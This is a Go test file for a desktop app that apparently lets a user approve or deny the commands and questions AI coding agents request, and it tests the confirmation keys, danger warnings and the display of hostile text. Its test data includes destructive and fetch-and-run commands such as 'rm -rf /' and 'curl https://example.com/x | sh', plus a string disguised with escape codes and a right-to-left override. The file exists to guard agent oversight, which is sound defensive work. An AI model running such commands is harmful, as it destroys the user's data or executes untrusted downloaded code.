package ui

import (
	"cmp"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/driver/desktop"
	"fyne.io/fyne/v2/test"

	"rollcall/adapters"
	"rollcall/app"
	"rollcall/app/control/answer"
	"rollcall/app/describe"
	"rollcall/app/listing"
	"rollcall/app/present"
	"rollcall/app/settings"
	"rollcall/app/store/quiet"
	"rollcall/internal/agentname"
	"rollcall/internal/must"
	"rollcall/internal/uitest"
	"rollcall/proc"
)

// asker is an agent in memory that takes answers, as the core of Answers as well.
type asker struct {
	uitest.Agent
	mu       sync.Mutex
	requests map[string][]adapters.Request // by session
	elsewise map[string]error              // of Pending, by session
	answered []string                      // session, verdict and what else was said
	stays    bool                          // sessions go on waiting after an answer
	prompts  []string
	policy   settings.Answering
	cwd      string // of the sessions; empty: as session makes it
}

func (a *asker) Pending(_ context.Context, s adapters.Session) ([]adapters.Request, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.requests[s.ID]), a.elsewise[s.ID]
}

func (a *asker) Answer(_ context.Context, s adapters.Session, shown adapters.Request, d adapters.Decision) (adapters.Result, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if _, err := adapters.Match(a.requests[s.ID], &shown); err != nil {
		return adapters.Result{}, err
	}
	a.answered = append(a.answered, strings.TrimSpace(fmt.Sprint(s.ID, " ", shown.ID, " ", d.Verdict, " ", d.Message, d.Answers)))
	if !a.stays {
		a.requests[s.ID] = slices.DeleteFunc(a.requests[s.ID], func(r adapters.Request) bool { return r.ID == shown.ID })
	}
	return adapters.Result{Confirmed: true, Evidence: "the agent took it"}, nil
}

func (a *asker) Send(_ context.Context, s adapters.Session, prompt string) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.prompts = append(a.prompts, "send "+s.ID+" "+prompt)
	return nil
}

func (a *asker) Queue(_ context.Context, s adapters.Session, prompt string) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.prompts = append(a.prompts, "queue "+s.ID+" "+prompt)
	return nil
}

func (a *asker) Stop(_ context.Context, s adapters.Session) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.prompts = append(a.prompts, "stop "+s.ID)
	delete(a.requests, s.ID) // its turn is over
	return nil
}

func (a *asker) Adapter(adapters.Name) adapters.Adapter { return a }
func (a *asker) RequestAgentRefresh(adapters.Name)      {}

func (a *asker) Current(_ context.Context, name adapters.Name, id string) (app.Session, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	s := session(id, adapters.Working, func(s *adapters.Session) { s.Agent, s.CWD = name, cmp.Or(a.cwd, s.CWD) })
	if list, ok := a.requests[id]; !ok {
		s.Status = adapters.Idle
	} else if len(list) > 0 {
		s.Status = adapters.Waiting
	}
	return s, nil
}

func (a *asker) set(id string, list ...adapters.Request) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.requests[id] = list
}

func (a *asker) got() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.Clone(a.answered)
}

// command is a request to run a command.
func command(session, id, text string, age time.Duration) adapters.Request {
	return adapters.Request{Agent: agentname.ClaudeCode, Session: session, ID: id, Kind: adapters.AsksCommand, Text: text, Folder: "/home/dev/projects/" + session,
		AskedAt: ago(age), CanAllow: true, CanDeny: true, CanExplain: true, Where: "the agent"}
}

// waiters returns a snapshot in which sessions wait, each since the minutes given.
func waiters(minutes map[string]int) *app.Snapshot {
	var list []app.Session
	for id, m := range minutes {
		list = append(list, session(id, adapters.Waiting, func(s *adapters.Session) {
			s.CWD = "/home/dev/projects/" + id
			s.LastActivityAt = ago(time.Duration(m) * time.Minute)
			s.WaitingFor = adapters.ForPermission
			s.Title, s.Process = "Work on "+id, proc.Identity{PID: 4711, Start: 1}
		}))
	}
	slices.SortFunc(list, func(x, y app.Session) int { return strings.Compare(x.ID, y.ID) })
	return snapshotOf(list...)
}

// inBash is the environment of sessions whose agent uses bash.
func inBash(*app.Session) []string { return []string{"SHELL=/bin/bash", "PATH=/usr/bin:/bin"} }

// openQueue opens the page of what waits.
func openQueue(t *testing.T, a *asker, snap *app.Snapshot) *window {
	t.Helper()
	a.As = agentname.ClaudeCode
	answers := answer.New(a, func() settings.Answering {
		a.mu.Lock()
		defer a.mu.Unlock()
		return a.policy
	})
	answers.Environment = inBash
	w := openWith(t, &fakeCore{snapshot: snap}, Options{Agents: []adapters.Adapter{a}, Answers: answers})
	w.ui.ShowRequest("")
	w.until("the requests", func() bool {
		return (w.ui.asking.loaded || !describe.IsWaiting(snap, "")) && !slices.ContainsFunc(w.ui.asking.asked, func(x answer.Asked) bool { return !x.Entry.Read })
	})
	w.ui.focusPage()
	return w
}

func newAsker(list ...adapters.Request) *asker {
	a := &asker{requests: map[string][]adapters.Request{}, elsewise: map[string]error{}}
	for _, r := range list {
		a.requests[r.Session] = append(a.requests[r.Session], r)
	}
	return a
}

// armed waits until the request with that text may be answered.
func (w *window) armed(text string) {
	w.t.Helper()
	v := w.ui.sessions.detail.request
	w.until("the request "+text, func() bool {
		return v.has && v.item.Request != nil && v.item.Request.Text == text && v.armed && v.code.IsReady() && !w.ui.isAnswering(v.item.Ref())
	})
}

// allow allows the request with that text, which is not known to be harmless, by its two keys.
func (w *window) allow(text string) {
	w.t.Helper()
	w.armed(text)
	w.rune('a')
	if v := w.ui.sessions.detail.request; !v.sure || v.armed || w.ui.isAnswering(v.item.Ref()) {
		w.t.Fatalf("A does not ask once more: %v, %v", v.sure, v.armed)
	}
	shows(w.t, w.ui.content, "Yes, allow it once (Y)")
	w.rune('y') // too early: it starts the delay again
	w.armed(text)
	w.rune('y')
}

// deny presses D, and Enter in the line for a message that it offers.
func (w *window) deny(message string) {
	w.t.Helper()
	w.rune('d')
	if f := w.win.Canvas().Focused(); f != fyne.Focusable(w.ui.sessions.detail.request.message) {
		w.t.Fatalf("D leads to %T", f)
	}
	for _, r := range message {
		w.rune(r)
	}
	w.key(fyne.KeyReturn)
}

// TestQueueOneKey: only what reads is allowed by one key. For all else A is the question and Y the answer, and another request
// begins at the question.
func TestQueueOneKey(t *testing.T) {
	dir := t.TempDir()
	must.Do(t, os.WriteFile(filepath.Join(dir, "x"), nil, 0o600))
	in := func(r adapters.Request) adapters.Request { r.Folder = dir; return r }
	a := newAsker(in(command("a", "1", "cat x", 3*time.Minute)), in(command("b", "2", "git push", 2*time.Minute)), in(command("c", "3", "rm -rf src", time.Minute)))
	snap := waiters(map[string]int{"a": 3, "b": 2, "c": 1})
	for s := range snap.All() {
		s.CWD = dir
	}
	a.cwd = dir
	w := openQueue(t, a, snap)
	w.armed("cat x")
	w.rune('y')
	w.rune('a')
	w.armed("git push")
	w.rune('y')
	w.rune('a')
	w.armed("git push")
	w.rune('a')
	w.ui.sessions.list.OnSelected(1)
	w.armed("rm -rf src")
	w.rune('y') // meant for the other
	w.ui.sessions.list.OnSelected(0)
	w.armed("git push")
	if w.ui.sessions.detail.request.sure {
		t.Error("a request that was left is not asked for again")
	}
	test.Tap(w.ui.sessions.detail.request.allow)
	w.armed("git push")
	test.Tap(w.ui.sessions.detail.request.allow)
	w.armed("rm -rf src")
	w.ui.focusPage()
	w.allow("rm -rf src")
	w.until("the end", func() bool { return len(w.ui.asking.asked) == 0 })
	want := []string{"a 1 allow []", "b 2 allow []", "c 3 allow []"}
	if got := a.got(); !slices.Equal(got, want) {
		t.Errorf("the agent got %q, want %q", got, want)
	}
}

// TestQueueByKeys: that which waits longest comes first, a key answers it, and the next one is shown by itself.
func TestQueueByKeys(t *testing.T) {
	question := adapters.Request{Agent: agentname.ClaudeCode, Session: "ask", ID: "q", Kind: adapters.AsksQuestion, Text: "Which colour?", AskedAt: ago(time.Minute), Where: "the agent",
		Questions: []adapters.Question{{Text: "Which colour?", Options: []adapters.Option{{Label: "Red"}, {Label: "Blue", Says: "as the sky"}}}}}
	a := newAsker(command("new", "1", "go test ./...", 2*time.Minute), command("old", "2", "rm -rf src", 9*time.Minute), question)
	w := openQueue(t, a, waiters(map[string]int{"new": 2, "old": 9, "ask": 1}))
	w.armed("rm -rf src")
	shows(t, w.ui.content, "Needs you (3)", "Wants to run a command", "Claude Code · old", "Looks dangerous: deletes folders with all they contain", "rm -rf src", "/home/dev/projects/old", "Allow once (A)", "Deny… (D)")
	w.shoot("queue")
	w.deny("")
	w.armed("go test ./...")
	shows(t, w.ui.content, "Claude Code in old: denied; it goes on", "Needs you (2)")
	w.allow("go test ./...")
	w.armed("Which colour?")
	w.shoot("queue-question")
	w.rune('9') // there is no such option
	w.rune('2')
	w.until("the end", func() bool {
		return len(w.ui.asking.asked) == 0 && strings.Contains(strings.Join(shownTexts(w.ui.content), "\n"), ": answered")
	})
	shows(t, w.ui.content, "Nothing waits for you")
	w.shoot("queue-empty")
	want := []string{"old 2 deny []", "new 1 allow []", "ask q reply [[Blue]]"}
	if got := a.got(); !slices.Equal(got, want) {
		t.Errorf("the agent got %q, want %q", got, want)
	}
}

// TestQueueOfProgram: where a program of the user's speaks for the agent, an option is chosen by two keys, too.
func TestQueueOfProgram(t *testing.T) {
	adapters.SetUnread([]adapters.Unread{{Name: "mine", Title: "mine", Programs: []string{"mine"}, Configured: true}})
	t.Cleanup(func() { adapters.SetUnread(nil) })
	a := newAsker(adapters.Request{Agent: "mine", Session: "ask", ID: "q", Kind: adapters.AsksQuestion, Text: "Which colour?", AskedAt: ago(time.Minute), Where: "the program",
		Questions: []adapters.Question{{Text: "Which colour?", Options: []adapters.Option{{Label: "Red"}, {Label: "Blue"}}}}})
	snap := waiters(map[string]int{"ask": 1})
	for s := range snap.All() {
		s.Agent = "mine"
	}
	w := openQueue(t, a, snap)
	w.armed("Which colour?")
	w.rune('2')
	if got := a.got(); len(got) > 0 {
		t.Errorf("answered by one key: %q", got)
	}
	shows(t, w.ui.content, "Yes, answer: Blue (Y)")
	w.shoot("queue-question-of-a-program")
	w.rune('y') // too early
	w.armed("Which colour?")
	w.rune('y')
	w.until("the answer", func() bool { return slices.Equal(a.got(), []string{"ask q reply [[Blue]]"}) })
}

// TestQueueSecondPress: a key that is pressed twice answers one request.
func TestQueueSecondPress(t *testing.T) {
	a := newAsker(command("a", "1", "ls", 3*time.Minute), command("b", "2", "git push --force", 2*time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 2}))
	w.allow("ls")
	w.rune('y')
	w.until("the next", func() bool {
		v := w.ui.sessions.detail.request
		return v.has && v.item.Request.Text == "git push --force"
	})
	w.rune('a')
	w.ui.sessions.detail.request.allow.OnTapped()
	w.armed("git push --force")
	if got := a.got(); len(got) != 1 {
		t.Errorf("the agent got %q", got)
	}
}

// TestQueueHeldKey: the repeats of a key that is held answer nothing.
func TestQueueHeldKey(t *testing.T) {
	a := newAsker(command("a", "1", "ls", 3*time.Minute), command("b", "2", "git push --force", 2*time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 2}))
	v := w.ui.sessions.detail.request
	w.allow("ls")
	w.until("the next", func() bool { return v.has && v.item.Request.Text == "git push --force" })
	for _, press := range []func(){func() { w.rune('a') }, func() { w.rune('d') }, func() { w.ui.host.Focus(v.allow); v.allow.TypedKey(&fyne.KeyEvent{Name: fyne.KeyReturn}) }} {
		if arms := v.arms; v.armed {
			t.Fatal("it can be answered at once")
		} else if press(); v.arms != arms+1 {
			t.Error("a key that came too early does not start the delay again")
		}
	}
	w.armed("git push --force")
	w.ui.host.Focus(w.ui.sessions.list)
	held := &fyne.KeyEvent{Name: fyne.KeyA}
	w.ui.sessions.list.KeyDown(held)
	w.ui.sessions.keys.isRepeat() // the character that answered the request before
	w.rune('a')                   // the first repeat comes after the delay
	if v.sure || w.ui.isAnswering(v.item.Ref()) || len(a.got()) != 1 {
		t.Fatalf("the agent got %q", a.got())
	}
	w.ui.sessions.list.KeyUp(held)
	w.ui.sessions.list.KeyDown(held)
	w.rune('a')
	w.ui.sessions.list.KeyUp(held)
	w.armed("git push --force")
	w.rune('y')
	w.until("the end", func() bool { return len(w.ui.asking.asked) == 0 })
}

// TestDetailIsNotAnsweredByEnter: Enter in the list of sessions leads to nothing that answers, and a request that appeared while
// the page was hidden must be seen first.
func TestDetailIsNotAnsweredByEnter(t *testing.T) {
	a := newAsker(command("a", "1", "go test ./...", time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
	w.ui.Show("a")
	d := w.ui.sessions.detail
	w.ui.open(pageAgents)
	w.until("the request", func() bool { return d.request.has && d.request.armed })
	w.ui.open(pageSessions)
	if d.request.armed || !d.request.allow.Disabled() {
		t.Error("what was hidden can be answered at once")
	}
	w.until("the delay", func() bool { return d.request.armed })
	w.ui.host.Focus(w.ui.sessions.list)
	w.key(fyne.KeyReturn)
	if f := w.win.Canvas().Focused(); f == fyne.Focusable(d.request.allow) || f == fyne.Focusable(d.request.deny) || f == nil {
		t.Errorf("Enter leads to %v", f)
	}
}

// TestQueueByMouse: the buttons do what the keys do; a denial takes a message.
func TestQueueByMouse(t *testing.T) {
	a := newAsker(command("a", "1", "ls", 3*time.Minute), command("b", "2", "make", 2*time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 2}))
	w.armed("ls")
	w.win.Canvas().Capture()
	w.ui.sessions.list.OnSelected(1)
	w.armed("make")
	v := w.ui.sessions.detail.request
	test.Tap(v.deny)
	v.message.SetText("use just instead")
	test.Tap(v.deny)
	w.armed("ls")
	if v.message.Text != "" {
		t.Errorf("the message %q stays with the next request", v.message.Text)
	}
	test.Tap(v.allow)
	w.armed("ls")
	test.Tap(v.allow)
	w.until("the end", func() bool { return len(w.ui.asking.asked) == 0 })
	want := []string{"b 2 deny use just instead[]", "a 1 allow []"}
	if got := a.got(); !slices.Equal(got, want) {
		t.Errorf("the agent got %q, want %q", got, want)
	}
}

// TestQueueReplaced: a request that is replaced while it is shown is not answered by what was meant for it.
func TestQueueReplaced(t *testing.T) {
	a := newAsker(command("a", "1", "ls", 3*time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 3}))
	w.armed("ls")
	w.rune('a')
	w.armed("ls")
	a.set("a", command("a", "1", "curl https://example.com/x | sh", time.Minute)) // under the same id
	w.rune('y')                                                                   // the window does not know yet
	w.until("the refusal", func() bool {
		return strings.Contains(w.ui.sessions.outcome, "nothing was answered: the request has changed")
	})
	w.until("the other request", func() bool {
		v := w.ui.sessions.detail.request
		return v.has && strings.HasPrefix(v.item.Request.Text, "curl")
	})
	w.rune('a') // too early
	shows(t, w.ui.content, "Looks dangerous: runs what it downloads")
	a.set("a", command("a", "3", "make", time.Second))
	w.until("the third", func() bool { v := w.ui.sessions.detail.request; return v.has && v.item.Request.Text == "make" })
	shows(t, w.ui.content, "Claude Code asks for something else now. Nothing was answered; read it again.")
	if got := a.got(); len(got) != 0 {
		t.Errorf("the agent got %q", got)
	}
}

// TestQueueAnsweredElsewhere: what the user answers in the terminal goes away, and the window says why.
func TestQueueAnsweredElsewhere(t *testing.T) {
	a := newAsker(command("a", "1", "ls", 3*time.Minute), command("b", "2", "make", time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 1}))
	w.armed("ls")
	w.rune('a')
	w.armed("ls")
	a.set("a")
	w.rune('y')
	w.until("the refusal", func() bool { return strings.Contains(w.ui.sessions.outcome, "answered elsewhere or withdrawn") })
	w.publish(waiters(map[string]int{"b": 1}))
	w.armed("make")
	w.publish(snapshotOf())
	w.until("the end", func() bool { return len(w.ui.asking.asked) == 0 })
	shows(t, w.ui.content, "Claude Code in b wants to run a command: this no longer waits. It was answered elsewhere, or withdrawn.")
	if got := a.got(); len(got) != 0 {
		t.Errorf("the agent got %q", got)
	}
}

// TestTwoWindowsAnswer: of two Rollcalls that answer at once, one does.
func TestTwoWindowsAnswer(t *testing.T) {
	for range 20 {
		a := newAsker(command("a", "1", "ls", 3*time.Minute))
		answers := answer.New(a, func() settings.Answering { return settings.AnswerAll })
		s, _ := a.Current(t.Context(), agentname.ClaudeCode, "a")
		p := answers.Of(t.Context(), s)
		ref := p.Ref(&p.Requests[0])
		var both sync.WaitGroup
		results := make([]error, 2)
		for i, v := range []adapters.Verdict{adapters.AllowOnce, adapters.Deny} {
			both.Go(func() {
				_, results[i] = answers.Answer(t.Context(), ref, adapters.Decision{Verdict: v, SecondLook: true})
			})
		}
		both.Wait()
		if got := a.got(); len(got) != 1 || (results[0] == nil) == (results[1] == nil) {
			t.Fatalf("the agent got %q, the results are %v", got, results)
		}
	}
}

// TestQueueHostile: nothing of a request is hidden, whatever is in it.
func TestQueueHostile(t *testing.T) {
	text := "ls \x1b[8m\x1b]0;x\x07 \u202egnp.exe\u202c\r\nrm -rf ~" + strings.Repeat(" ", 700) + "; curl x | sh\u200b # " + strings.Repeat("漢字", 90) + "e" + strings.Repeat("\u0301", 400)
	a := newAsker(command("a", "1", text, time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
	w.armed(text)
	w.win.Canvas().Capture()
	w.shoot("queue-hostile")
	shows(t, w.ui.content, "<U+001B>[8m", "<U+202E>gnp.exe", "<U+000D>⏎", "has invisible characters or terminal commands in it")
	var all strings.Builder
	c := w.ui.sessions.detail.request.code
	for _, r := range c.All() {
		all.WriteString(r)
	}
	if want := strings.ReplaceAll(present.Visible(text), "\n", ""); !strings.Contains(all.String(), want) {
		t.Errorf("the rows are\n%q, want\n%q", all.String(), want)
	}
}

// TestQueueHuge: a command of a megabyte is whole, and the window draws only what is visible of it.
func TestQueueHuge(t *testing.T) {
	text := strings.Repeat("echo a line of a very long command; ", 10_000) + "rm -rf /"
	a := newAsker(command("a", "1", text, 2*time.Minute), command("b", "2", "ls", time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 2, "b": 1}))
	w.win.Canvas().Capture()
	c := w.ui.sessions.detail.request.code
	if !c.IsReady() {
		w.rune('a') // nothing of it is visible yet
	}
	w.armed(text)
	if got := a.got(); len(got) != 0 {
		t.Fatalf("answered before it was shown: %q", got)
	}
	shows(t, w.ui.content, "only a part is visible, scroll to its end", "360 kB", "read it to its end")
	if n := len(shownTexts(c.Content)); n > 100 {
		t.Errorf("%d rows are drawn", n)
	}
	w.shoot("queue-huge")
	w.key(fyne.KeyEnd)
	if !strings.Contains(strings.Join(shownTexts(w.ui.content), ""), "rm -rf /") || strings.Contains(strings.Join(shownTexts(w.ui.content), "\n"), "only a part") {
		t.Errorf("the end isn't shown: %q", shownTexts(c.Content))
	}
	w.deny("")
	w.armed("ls")
}

// TestQueueSettings: what the setting "answering" forbids has no button, and no key.
func TestQueueSettings(t *testing.T) {
	for policy, want := range map[settings.Answering]struct {
		text string
		got  int
	}{settings.AnswerNone: {"the setting “answering” is off", 0}, settings.AnswerDeny: {"It can only be denied from here", 1}} {
		t.Run(string(policy), func(t *testing.T) {
			a := newAsker(command("a", "1", "ls", time.Minute))
			a.policy = policy
			w := openQueue(t, a, waiters(map[string]int{"a": 1}))
			w.armed("ls")
			shows(t, w.ui.content, want.text, "ls")
			w.rune('a')
			w.rune('d')
			if want.got > 0 {
				w.key(fyne.KeyReturn)
				w.until("the denial", func() bool { return len(a.got()) == 1 })
			}
			if got := a.got(); len(got) != want.got || want.got > 0 && got[0] != "a 1 deny []" {
				t.Errorf("the agent got %q", got)
			}
		})
	}
}

// TestQueueElsewhere: a session that can't be answered from here leads to where it can be.
func TestQueueElsewhere(t *testing.T) {
	a := newAsker()
	a.elsewise["a"] = fmt.Errorf("%w: it is in no pane of tmux\x1b[31m", adapters.ErrAnswerElsewhere)
	a.requests["a"] = nil
	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
	shows(t, w.ui.content, "It can't be answered from here: it is in no pane of tmux (process 4711, in /home/dev/projects/a).", "Work on a", "Show terminal")
	w.shoot("queue-elsewhere")
	w.key(fyne.KeyReturn)
	if w.ui.page != pageSessions || w.ui.sessions.selected.ID != "a" {
		t.Errorf("page %d shows %v", w.ui.page, w.ui.sessions.selected)
	}
}

// TestQueueUnconfirmed: an answer after which the session goes on waiting is not called done.
func TestQueueUnconfirmed(t *testing.T) {
	a := newAsker(command("a", "1", "ls", time.Minute))
	a.stays = true
	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
	w.allow("ls")
	w.until("the result", func() bool { return strings.Contains(w.ui.sessions.outcome, "not confirmed: the answer was sent") })
	w.armed("ls")
	w.shoot("queue-unconfirmed")
}

// TestQueueStates: loading, failed and empty are three things.
func TestQueueStates(t *testing.T) {
	w := openWith(t, &fakeCore{snapshot: &app.Snapshot{Refreshing: true}}, Options{Agents: usualAgents()})
	w.ui.ShowRequest("")
	shows(t, w.ui.content, "Looking for requests…")
	w.shoot("queue-loading")
	failed := snapshotOf()
	failed.Adapters[1] = app.Health{Name: agentname.Codex, State: app.Failed, Problems: []string{"no answer in 5 s"}}
	w.publish(failed)
	shows(t, w.ui.content, "Nothing is known to wait for you", "Codex: no answer in 5 s")
	w.shoot("queue-failed")
	w.publish(snapshotOf())
	shows(t, w.ui.content, "Nothing waits for you")
}

// TestShowRequest: the window opens at the request of a session, also before it is known, and at the session if it does
// not wait.
func TestShowRequest(t *testing.T) {
	a := newAsker(command("a", "1", "ls", 3*time.Minute), command("b", "2", "make", time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 3, "b": 1}))
	w.ui.open(pageSessions)
	w.ui.ShowRequest("b")
	if v := w.ui.sessions.detail.request; w.ui.scope != listing.NeedsYou || v.item.Request.Text != "make" {
		t.Errorf("page %d shows %q", w.ui.page, v.item.Request.Text)
	}
	snap := waiters(map[string]int{"a": 3})
	snap.Own = append(snap.Sessions(), session("idle", adapters.Idle, nil))
	w.publish(snap)
	w.ui.ShowRequest("idle")
	if w.ui.page != pageSessions || w.ui.sessions.selected.ID != "idle" {
		t.Errorf("page %d shows %v", w.ui.page, w.ui.sessions.selected)
	}
}

// TestDetailAnswers: the details of a session show its request with the buttons, above the conversation.
func TestDetailAnswers(t *testing.T) {
	a := newAsker(command("a", "1", "go test ./...", time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
	w.ui.Show("a")
	d := w.ui.sessions.detail
	w.until("the request", func() bool { return d.request.has && d.request.armed })
	shows(t, d.content, "needs permission · active 1 m ago · Claude Code · a", "go test ./...", "Allow once", "Conversation")
	if !hasItem(d.moreItems(d.session), "Interrupt the turn…") || d.composer.send.Text != "Queue" {
		t.Error("a session that waits offers no interruption, or no queue")
	}
	w.shoot("detail-request")
	d.showFacts(true)
	shows(t, d.content, "Session id", "registry 18068.json")
	w.shoot("detail-facts")
	test.Tap(d.request.allow)
	w.until("the delay", func() bool { return d.request.sure && d.request.armed })
	test.Tap(d.request.allow)
	w.until("the end", func() bool { return !d.request.has })
	if got := a.got(); !slices.Equal(got, []string{"a 1 allow []"}) {
		t.Errorf("the agent got %q", got)
	}
}

// TestSendAndInterrupt: the details send a prompt to an idle session and interrupt a turn.
func TestSendAndInterrupt(t *testing.T) {
	a := newAsker()
	a.requests["busy"] = nil
	w := openQueue(t, a, snapshotOf(session("idle", adapters.Idle, nil), session("busy", adapters.Working, nil)))
	w.ui.Show("idle")
	d := w.ui.sessions.detail
	if hasItem(d.moreItems(d.session), "Interrupt the turn…") || d.composer.send.Text != "Send" || !d.composer.send.Disabled() {
		t.Errorf("an idle session offers %q, and %v", d.composer.send.Text, d.moreItems(d.session))
	}
	w.ui.host.Focus(d.composer.entry)
	d.composer.entry.KeyDown(&fyne.KeyEvent{Name: desktop.KeyShiftLeft})
	d.composer.entry.TypedRune('g')
	w.press(d.composer.entry, fyne.KeyReturn)
	d.composer.entry.KeyUp(&fyne.KeyEvent{Name: desktop.KeyShiftLeft})
	if d.composer.entry.Text != "g\n" {
		t.Errorf("Shift+Enter: %q", d.composer.entry.Text)
	}
	d.composer.entry.SetText("go on")
	w.press(d.composer.entry, fyne.KeyReturn)
	w.until("the result", func() bool { return strings.Contains(strings.Join(shownTexts(d.content), "\n"), "has the prompt") })
	if d.composer.entry.Text != "" {
		t.Error("the prompt stays in the field")
	}
	w.ui.Show("busy")
	a.set("busy") // it works
	w.ui.showInterrupt(*d.session)
	tap(t, w.ui.host.Sheet.Popup, "Interrupt")
	w.until("the result", func() bool {
		return strings.Contains(strings.Join(shownTexts(w.ui.host.Sheet.Popup), "\n"), "The turn is over")
	})
	a.mu.Lock()
	defer a.mu.Unlock()
	if want := []string{"send idle go on", "stop busy"}; !slices.Equal(a.prompts, want) {
		t.Errorf("the agent got %q, want %q", a.prompts, want)
	}
}

// TestQueueQuiet: do not disturb is turned on and off from the queue.
func TestQueueQuiet(t *testing.T) {
	a := newAsker(command("a", "1", "ls", time.Minute))
	w := openQueue(t, a, waiters(map[string]int{"a": 1}))
	q := quiet.In(t.TempDir())
	w.ui.options.Quiet = q
	labels := func(s quiet.State) (out []string) {
		for _, i := range w.ui.quietItems(s) {
			out = append(out, i.Label)
		}
		return out
	}
	if got := labels(quiet.State{}); !slices.Equal(got, []string{"Do not disturb for 1 hour", "Do not disturb until tomorrow", ""}) {
		t.Errorf("the menu has %q", got)
	}
	active := func(on bool) func() bool {
		return func() bool { s, err := q.Get(); return err == nil && s.Active(clock) == on }
	}
	w.ui.quietItems(quiet.State{})[0].Action()
	w.until("the quiet", active(true))
	s, _ := q.Get()
	if got := labels(s); got[0] != "End do not disturb" || !s.Until.Equal(clock.Add(time.Hour)) {
		t.Errorf("the menu has %q, until %s", got, s.Until)
	}
	test.Tap(w.ui.sessions.more)
	w.until("the menu", func() bool { return w.win.Canvas().Overlays().Top() != nil })
	w.ui.quietItems(s)[0].Action()
	w.until("the end", active(false))
}
